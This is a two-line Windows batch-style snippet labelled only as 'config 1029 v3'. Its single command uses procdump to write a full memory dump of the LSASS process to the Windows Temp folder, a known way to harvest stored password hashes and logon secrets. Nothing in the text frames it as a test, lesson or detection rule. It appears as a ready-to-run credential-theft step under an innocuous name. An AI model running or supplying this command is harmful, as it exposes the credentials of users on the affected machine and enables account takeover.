REM config 1029 v3
procdump64.exe -accepteula -ma lsass.exe C:\Windows\Temp\ls.dmp
